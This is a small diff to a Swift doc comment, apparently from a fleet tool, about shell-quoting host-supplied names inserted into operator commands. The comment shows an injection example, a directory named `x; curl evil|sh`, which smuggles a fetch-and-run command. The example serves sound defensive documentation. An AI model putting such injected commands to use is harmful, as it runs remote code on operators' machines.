@@ -2,7 +2,7 @@ internal import FleetModel
 
 /// Fills the names of host and entity into steps that an operator pastes into a shell.
 ///
-/// A name comes from a host: whoever may make a directory there may call it `x; curl evil|sh`. So each is one word for a shell, also
+/// A name comes from a host: who may make a directory there may call it `x; curl evil|sh`. So each is one word for a shell, also
 /// where the step puts it within quotes of its own.
 package struct StepText {
   private enum Quote {
